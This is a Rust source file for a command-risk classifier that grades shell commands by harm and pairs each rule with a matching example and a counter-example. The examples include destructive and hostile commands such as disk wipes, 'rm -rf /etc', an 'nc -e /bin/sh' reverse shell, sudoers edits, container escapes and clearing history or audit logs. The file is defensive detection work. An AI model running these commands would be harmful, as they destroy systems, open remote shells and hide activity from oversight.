//! The table. Each row carries a line that falls under it and one that does
//! not; a test runs them all.

use crate::{
    argument::Argument,
    plan::SimpleCommand,
    risk::Risk::{self, Critical, High, Medium},
};

/// Raised when a row changes, so that recorded risks can be compared.
pub const VERSION: u32 = 1;

/// One kind of harm.
#[derive(Debug)]
pub struct Row {
    /// Stable name.
    pub id: &'static str,
    /// Class.
    pub risk: Risk,
    /// Base names of programs.
    programs: &'static [&'static str],
    /// All must hold.
    needs: &'static [Need],
    /// Falls under the row.
    pub example: &'static str,
    /// Looks similar and does not.
    pub counter_example: &'static str,
}

/// A condition on the arguments.
#[derive(Debug)]
enum Need {
    /// Some argument is one of these words.
    Word(&'static [&'static str]),
    /// The first argument that is no option is one of these words.
    Verb(&'static [&'static str]),
    /// An option: one of these letters or long names.
    Option(&'static str, &'static [&'static str]),
    /// Some argument starts with one of these.
    Start(&'static [&'static str]),
    /// Some argument contains one of these, in any case.
    Text(&'static [&'static str]),
    /// Some argument is a system folder, or everything in one.
    SystemPath,
    /// Some argument is a file that decides who may do what.
    SystemFile,
    /// Some argument names a raw device.
    Device,
    /// Some argument is not known, and could be any path.
    UnknownPath,
    /// A mode that lets everybody write, or sets the user id.
    WideMode,
    /// There is no argument.
    Bare,
}

use Need::{
    Bare, Device, Option as Opt, Start, SystemFile, SystemPath, Text, UnknownPath, Verb, WideMode,
    Word,
};

const fn row(
    id: &'static str,
    risk: Risk,
    programs: &'static [&'static str],
    needs: &'static [Need],
    example: &'static str,
    counter_example: &'static str,
) -> Row {
    Row {
        id,
        risk,
        programs,
        needs,
        example,
        counter_example,
    }
}

const RECURSIVE: Need = Opt("rR", &["recursive"]);
const SQL: &[&str] = &[
    "psql",
    "mysql",
    "mariadb",
    "sqlite3",
    "sqlcmd",
    "clickhouse-client",
    "cockroach",
];

/// All rows.
#[rustfmt::skip]
pub const TABLE: &[Row] = &[
    // Loss of files
    row("delete-system-path", Critical, &["rm"], &[RECURSIVE, SystemPath], "rm -rf /etc", "rm -rf /tmp/build"),
    row("delete-unknown-path", High, &["rm"], &[RECURSIVE, UnknownPath], "rm -rf $X", "rm -rf build"),
    row("delete-tree", Medium, &["rm"], &[RECURSIVE], "rm -r build", "rm build"),
    row("no-preserve-root", Critical, &["rm"], &[Word(&["--no-preserve-root"])], "rm -rf --no-preserve-root x", "rm -rf --preserve-root x"),
    row("find-delete-system", Critical, &["find"], &[SystemPath, Word(&["-delete"])], "find / -delete", "find /tmp/x -delete"),
    row("find-delete", Medium, &["find"], &[Word(&["-delete"])], "find /tmp/x -delete", "find /tmp/x -name a"),
    row("shred", High, &["shred", "srm", "wipe"], &[], "shred -u key", "cat key"),
    row("truncate-system-file", High, &["truncate"], &[SystemFile], "truncate -s 0 /etc/passwd", "truncate -s 0 log"),
    row("move-system-path", Critical, &["mv"], &[SystemPath], "mv /etc /tmp/x", "mv a b"),

    // Disks
    row("make-file-system", Critical, &["mkfs", "mkfs.ext4", "mkfs.ext3", "mkfs.xfs", "mkfs.btrfs", "mkfs.vfat", "mke2fs", "mkswap"], &[], "mkfs.ext4 /dev/sdb1", "fsck /dev/sdb1"),
    row("partition", Critical, &["fdisk", "sfdisk", "cfdisk", "parted", "sgdisk", "gdisk"], &[Device], "parted /dev/sda rm 1", "fdisk -l"),
    row("wipe-signatures", Critical, &["wipefs", "blkdiscard", "hdparm"], &[Device], "wipefs -a /dev/sda", "wipefs --help"),
    row("raw-device-write", Critical, &["dd"], &[Start(&["of=/dev/sd", "of=/dev/nvme", "of=/dev/vd", "of=/dev/xvd", "of=/dev/hd", "of=/dev/mmcblk", "of=/dev/md", "of=/dev/dm-", "of=/dev/mapper/"])], "dd if=x of=/dev/sda", "dd if=x of=y"),
    row("write-to-device", Critical, &["tee", "cp", "cat", "install"], &[Device], "cp image /dev/sda", "cp image /tmp/sda"),
    row("remove-volume", Critical, &["lvremove", "vgremove", "pvremove"], &[], "lvremove vg/lv", "lvs"),
    row("destroy-pool", Critical, &["zpool", "zfs"], &[Verb(&["destroy"])], "zfs destroy tank/a", "zfs list"),
    row("close-encryption", High, &["cryptsetup"], &[Verb(&["luksErase", "erase", "luksFormat", "luksKillSlot"])], "cryptsetup luksErase /dev/sda2", "cryptsetup status x"),
    row("unmount", Medium, &["umount"], &[], "umount /mnt", "mount"),

    // Permissions
    row("widen-system-permissions", Critical, &["chmod"], &[RECURSIVE, WideMode, SystemPath], "chmod -R 777 /", "chmod -R 755 /srv/x"),
    row("widen-permissions", High, &["chmod"], &[WideMode], "chmod u+s /tmp/x", "chmod 644 x"),
    row("own-system-path", Critical, &["chown", "chgrp"], &[RECURSIVE, SystemPath], "chown -R nobody /usr", "chown -R app /srv/app"),
    row("capabilities", High, &["setcap"], &[], "setcap cap_setuid+ep x", "getcap x"),
    row("immutable", Medium, &["chattr"], &[], "chattr -i /etc/passwd", "lsattr x"),
    row("edit-system-file", High, &["tee", "cp", "mv", "install", "ln", "sed", "vi", "vim", "nano", "ed", "rm"], &[SystemFile], "tee -a /etc/sudoers", "tee /tmp/out"),
    row("edit-sudoers", High, &["visudo"], &[], "visudo", "sudo -l"),

    // Users and keys
    row("remove-user", High, &["userdel", "deluser", "groupdel", "delgroup"], &[], "userdel alice", "id alice"),
    row("change-user", High, &["useradd", "adduser", "usermod", "groupadd", "gpasswd", "chpasswd", "newusers", "vipw", "vigr", "chsh"], &[], "usermod -aG sudo bob", "groups bob"),
    row("change-password", High, &["passwd"], &[], "passwd root", "getent passwd root"),
    row("change-keys", High, &["ssh-keygen", "ssh-copy-id"], &[], "ssh-copy-id host", "ssh-add -l"),
    row("authorized-keys", High, &["tee", "cp", "mv", "sed", "ln", "install"], &[Text(&["authorized_keys"])], "tee -a /home/a/.ssh/authorized_keys", "tee notes"),

    // Network
    row("flush-firewall", High, &["iptables", "ip6tables", "ebtables"], &[Opt("FXP", &["flush", "delete-chain", "policy"])], "iptables -F", "iptables -L"),
    row("change-firewall", Medium, &["iptables", "ip6tables"], &[Opt("ADIR", &["append", "delete", "insert", "replace"])], "iptables -A INPUT -j DROP", "iptables -S"),
    row("flush-nftables", High, &["nft"], &[Word(&["flush", "delete"])], "nft flush ruleset", "nft list ruleset"),
    row("disable-ufw", High, &["ufw"], &[Verb(&["disable", "reset"])], "ufw disable", "ufw status"),
    row("stop-interface", High, &["ip"], &[Word(&["down", "flush", "delete", "del"])], "ip link set eth0 down", "ip addr show"),
    row("ifdown", High, &["ifdown", "ifconfig"], &[Word(&["down", "eth0", "-a"])], "ifconfig eth0 down", "ifconfig lo"),
    row("capture-traffic", Medium, &["tcpdump", "tshark"], &[], "tcpdump -i any", "ss -tlnp"),
    row("listen", High, &["nc", "ncat", "netcat", "socat"], &[Opt("le", &["listen", "exec", "sh-exec"])], "nc -l -p 4444", "nc -z host 80"),
    row("reverse-shell", Critical, &["nc", "ncat", "netcat"], &[Opt("ec", &["exec", "sh-exec"])], "nc -e /bin/sh host 1", "nc -z host 80"),

    // Services and power
    row("power", Critical, &["reboot", "shutdown", "poweroff", "halt", "telinit"], &[], "shutdown -h now", "uptime"),
    row("init-level", Critical, &["init"], &[Word(&["0", "6"])], "init 0", "init --help"),
    row("systemctl-power", Critical, &["systemctl"], &[Verb(&["reboot", "poweroff", "halt", "kexec", "rescue", "emergency", "isolate"])], "systemctl reboot", "systemctl status"),
    row("stop-service", High, &["systemctl"], &[Verb(&["stop", "disable", "mask", "kill", "revert"])], "systemctl stop nginx", "systemctl restart nginx"),
    row("restart-service", Medium, &["systemctl"], &[Verb(&["restart", "reload", "start", "enable", "daemon-reload", "edit", "try-restart"])], "systemctl restart nginx", "systemctl status nginx"),
    row("service-stop", High, &["service", "rc-service"], &[Word(&["stop"])], "service nginx stop", "service nginx status"),
    row("kill-all", High, &["killall", "pkill"], &[], "pkill -9 nginx", "pgrep nginx"),
    row("kill-everything", Critical, &["kill"], &[Word(&["-1"])], "kill -9 -1", "kill -9 4242"),
    row("kernel-module", High, &["insmod", "rmmod", "modprobe", "kexec"], &[], "insmod x.ko", "lsmod"),
    row("kernel-setting", High, &["sysctl"], &[Opt("wp", &["write", "load", "system"])], "sysctl -w kernel.x=1", "sysctl kernel.x"),

    // Packages
    row("remove-package", High, &["apt", "apt-get", "yum", "dnf", "zypper", "apk", "aptitude"], &[Verb(&["remove", "purge", "autoremove", "erase", "del"])], "apt-get purge nginx", "apt list"),
    row("install-package", Medium, &["apt", "apt-get", "yum", "dnf", "zypper", "apk", "pip", "pip3", "npm", "gem", "snap", "aptitude"], &[Verb(&["install", "upgrade", "dist-upgrade", "full-upgrade", "add", "update"])], "apt-get install nginx", "apt-cache search nginx"),
    row("dpkg-change", High, &["dpkg", "rpm"], &[Opt("rPei", &["remove", "purge", "erase", "install"])], "dpkg -r nginx", "dpkg --list"),

    // Databases
    row("drop-database", Critical, SQL, &[Text(&["drop database", "drop schema", "drop table", "truncate "])], "psql -c 'DROP TABLE users'", "psql -c 'select 1'"),
    row("delete-rows", High, SQL, &[Text(&["delete from", "update ", "alter ", "grant "])], "mysql -e 'delete from users'", "mysql -e 'select 1'"),
    row("dropdb", Critical, &["dropdb", "dropuser"], &[], "dropdb prod", "createdb test"),
    row("mysqladmin-drop", Critical, &["mysqladmin"], &[Verb(&["drop", "shutdown"])], "mysqladmin drop prod", "mysqladmin status"),
    row("redis-flush", Critical, &["redis-cli"], &[Text(&["flushall", "flushdb", "shutdown"])], "redis-cli FLUSHALL", "redis-cli ping"),
    row("mongo-drop", Critical, &["mongo", "mongosh"], &[Text(&["dropdatabase", ".drop("])], "mongosh --eval 'db.dropDatabase()'", "mongosh --eval 'db.stats()'"),

    // Clusters, containers, cloud
    row("cluster-delete", Critical, &["kubectl", "oc"], &[Verb(&["delete", "drain"])], "kubectl delete ns prod", "kubectl get ns"),
    row("cluster-change", High, &["kubectl", "oc"], &[Verb(&["apply", "scale", "edit", "patch", "replace", "cordon", "taint", "rollout", "set", "create"])], "kubectl scale deploy/x --replicas=0", "kubectl logs x"),
    row("helm-uninstall", Critical, &["helm"], &[Verb(&["uninstall", "delete", "rollback"])], "helm uninstall x", "helm list"),
    row("terraform-destroy", Critical, &["terraform", "tofu", "pulumi"], &[Verb(&["destroy", "apply", "up"])], "terraform destroy", "terraform plan"),
    row("container-escape", Critical, &["docker", "podman", "nerdctl"], &[Start(&["--privileged", "--pid=host", "--net=host", "--network=host", "--ipc=host", "--userns=host", "--cap-add", "--security-opt", "-v/:", "--volume=/:", "--device"])], "docker run --privileged x", "docker ps"),
    row("container-mount", Critical, &["docker", "podman", "nerdctl"], &[Start(&["/:/", "/etc:", "/root:", "/var/run/docker.sock", "type=bind,source=/,", "type=bind,src=/,"])], "docker run -v /:/host x", "docker run -v data:/data x"),
    row("container-remove", High, &["docker", "podman", "nerdctl"], &[Verb(&["rm", "rmi", "kill", "stop", "system", "volume", "network"])], "docker rm -f web", "docker logs web"),
    row("namespace-entry", Critical, &["nsenter"], &[Opt("ta", &["target", "all"])], "nsenter -t 1 -m sh", "lsns"),
    row("cloud-delete", Critical, &["aws", "gcloud", "az", "doctl"], &[Text(&["delete", "terminate", "remove", " rb", "destroy"])], "aws ec2 terminate-instances --instance-ids i-1", "aws s3 ls"),

    // Evidence
    row("clear-history", Critical, &["history"], &[Opt("cdw", &[])], "history -c", "history 10"),
    row("stop-logging", Critical, &["systemctl", "service"], &[Word(&["stop", "disable", "mask"]), Text(&["auditd", "rsyslog", "journald", "alpamon", "fail2ban"])], "systemctl stop auditd", "systemctl stop nginx"),
    row("delete-logs", Critical, &["rm", "shred", "truncate", "mv", "sed"], &[Start(&["/var/log"])], "rm /var/log/auth.log", "cat /var/log/auth.log"),
    row("vacuum-journal", High, &["journalctl"], &[Opt("", &["vacuum-time", "vacuum-size", "vacuum-files", "rotate", "flush"])], "journalctl --vacuum-time=1s", "journalctl -u nginx"),
    row("audit-rules", Critical, &["auditctl"], &[Opt("De", &[])], "auditctl -D", "auditctl -l"),
    row("remove-history-file", Critical, &["rm", "shred", "truncate", "ln", "unset"], &[Text(&["_history", "histfile"])], "rm /root/.bash_history", "cat notes"),
    row("disable-lsm", High, &["setenforce", "aa-teardown", "aa-disable", "apparmor_parser"], &[], "setenforce 0", "getenforce"),

    // Persistence and interpreters
    row("replace-crontab", High, &["crontab"], &[Opt("re", &[])], "crontab -r", "crontab -l"),
    row("schedule", Medium, &["at", "batch", "systemd-run", "crontab"], &[], "at now", "atq"),
    row("shell-session", Medium, &["su", "bash", "sh", "zsh", "dash"], &[Bare], "su", "su -c id"),
    row("one-line-program", Medium, &["python", "python3", "perl", "ruby", "node", "php", "lua"], &[Opt("cer", &["eval", "run"])], "python3 -c 'import os'", "python3 app.py"),
    row("debugger", High, &["gdb", "strace", "ltrace", "lldb"], &[Opt("p", &["pid", "attach"])], "gdb -p 1", "gdb ./a.out"),
];

impl Row {
    /// Whether the command falls under this row.
    pub fn applies(&self, command: &SimpleCommand) -> bool {
        command
            .base_name()
            .is_some_and(|name| self.programs.contains(&name))
            && self
                .needs
                .iter()
                .all(|need| need.holds(command.arguments()))
    }
}

impl Need {
    fn holds(&self, arguments: &[Argument]) -> bool {
        let known = || arguments.iter().filter_map(Argument::as_static);
        match self {
            Self::Word(words) => known().any(|text| words.contains(&text)),
            Self::Verb(words) => {
                known()
                    .find(|text| !text.starts_with('-'))
                    .is_some_and(|text| words.contains(&text))
                    || verb_after_options(arguments, words)
            }
            Self::Option(letters, names) => known().any(|text| is_option(text, letters, names)),
            Self::Start(starts) => arguments
                .iter()
                .any(|word| starts.iter().any(|start| word.pattern().starts_with(start))),
            Self::Text(parts) => {
                let all: Vec<_> = arguments
                    .iter()
                    .map(|word| word.pattern().to_lowercase())
                    .collect();
                let joined = all.join(" ");
                parts.iter().any(|part| joined.contains(part))
            }
            Self::SystemPath => arguments.iter().any(is_system_path),
            Self::SystemFile => arguments.iter().any(|word| is_system_file(word.pattern())),
            Self::Device => arguments.iter().any(|word| is_device(word.pattern())),
            Self::UnknownPath => arguments
                .iter()
                .any(|word| word.is_dynamic() && word.known_prefix().len() < 2),
            Self::WideMode => known().any(is_wide_mode),
            Self::Bare => arguments.is_empty(),
        }
    }
}

/// The verb of `kubectl -n prod delete pod x`, whose option takes a word.
fn verb_after_options(arguments: &[Argument], words: &[&str]) -> bool {
    let text = |index: usize| arguments.get(index).and_then(Argument::as_static);
    let mut index = 0;
    while let Some(option) = text(index).filter(|text| text.starts_with('-')) {
        index += if option.contains('=') { 1 } else { 2 };
    }
    text(index).is_some_and(|verb| words.contains(&verb))
}

fn is_option(text: &str, letters: &str, names: &[&str]) -> bool {
    if let Some(long) = text.strip_prefix("--") {
        return names.contains(&long.split('=').next().unwrap_or(long));
    }
    text.strip_prefix('-')
        .is_some_and(|cluster| cluster.contains(|ch| letters.contains(ch)))
}

const SYSTEM_FOLDERS: [&str; 15] = [
    "/bin", "/boot", "/dev", "/etc", "/home", "/lib", "/lib64", "/opt", "/proc", "/root", "/sbin",
    "/srv", "/sys", "/usr", "/var",
];

/// `/`, `/etc`, `/usr/lib`, `/*`, `/etc/*`, `~`.
fn is_system_path(word: &Argument) -> bool {
    if word.source().starts_with('~') && !word.pattern().contains('/') {
        return true;
    }
    let pattern = word.pattern();
    let path = pattern
        .trim_end_matches(crate::argument::UNKNOWN)
        .trim_end_matches(['/', '.']);
    if pattern.starts_with('/') && path.is_empty() {
        return true;
    }
    SYSTEM_FOLDERS.contains(&path)
        || ["/usr/", "/etc/", "/boot/", "/lib/"].iter().any(|folder| {
            path.strip_prefix(folder)
                .is_some_and(|rest| !rest.is_empty() && !rest.contains('/'))
        })
}

/// Files that decide who may do what.
pub(super) fn is_system_file(path: &str) -> bool {
    const FILES: [&str; 12] = [
        "/etc/passwd",
        "/etc/shadow",
        "/etc/group",
        "/etc/gshadow",
        "/etc/sudoers",
        "/etc/crontab",
        "/etc/fstab",
        "/etc/hosts",
        "/etc/ld.so.preload",
        "/etc/profile",
        "/etc/environment",
        "/etc/resolv.conf",
    ];
    const FOLDERS: [&str; 12] = [
        "/etc/sudoers.d/",
        "/etc/ssh/",
        "/etc/pam.d/",
        "/etc/cron",
        "/etc/systemd/",
        "/etc/init.d/",
        "/etc/security/",
        "/etc/ld.so.conf",
        "/usr/bin/",
        "/usr/sbin/",
        "/boot/",
        "/var/spool/cron/",
    ];
    FILES.contains(&path)
        || FOLDERS.iter().any(|folder| path.starts_with(folder))
        || path.ends_with("/.ssh/authorized_keys")
}

/// Block devices and memory.
pub(super) fn is_device(path: &str) -> bool {
    const DEVICES: [&str; 11] = [
        "/dev/sd",
        "/dev/nvme",
        "/dev/vd",
        "/dev/xvd",
        "/dev/hd",
        "/dev/mmcblk",
        "/dev/md",
        "/dev/dm-",
        "/dev/mapper/",
        "/dev/mem",
        "/dev/kmem",
    ];
    DEVICES.iter().any(|device| path.starts_with(device))
}

/// `777`, `o+w`, `a+rwx`, `u+s`, `4755`.
fn is_wide_mode(mode: &str) -> bool {
    let digits = mode.trim_start_matches('0');
    if !digits.is_empty() && digits.bytes().all(|byte| (b'0'..=b'7').contains(&byte)) {
        let world = digits
            .bytes()
            .last()
            .is_some_and(|byte| (byte - b'0') & 2 != 0);
        let set_id = digits.len() > 3
            && digits
                .bytes()
                .next()
                .is_some_and(|byte| (byte - b'0') & 6 != 0);
        return world || set_id;
    }
    mode.split(',').any(|clause| {
        let Some(at) = clause.find(['+', '=']) else {
            return false;
        };
        let (who, what) = clause.split_at(at);
        if !who.bytes().all(|byte| b"ugoa".contains(&byte))
            || !what.bytes().skip(1).all(|byte| b"rwxXst".contains(&byte))
        {
            return false;
        }
        let world = who.is_empty() || who.contains(['o', 'a']);
        what.contains('s') || (world && what.contains('w'))
    })
}

#[cfg(test)]
mod tests {
    use super::TABLE;
    use crate::{Plan, risk};

    #[test]
    fn every_row_knows_its_example() {
        for row in TABLE {
            let applies = |line: &str| {
                Plan::read(line)
                    .commands
                    .iter()
                    .any(|command| row.applies(command))
            };
            assert!(applies(row.example), "{}: {}", row.id, row.example);
            assert!(
                !applies(row.counter_example),
                "{}: not {}",
                row.id,
                row.counter_example
            );
            assert!(risk::of(&Plan::read(row.example)) >= row.risk, "{}", row.id);
        }
    }

    #[test]
    fn names_are_unique() {
        let mut ids: Vec<_> = TABLE.iter().map(|row| row.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), TABLE.len());
    }
}
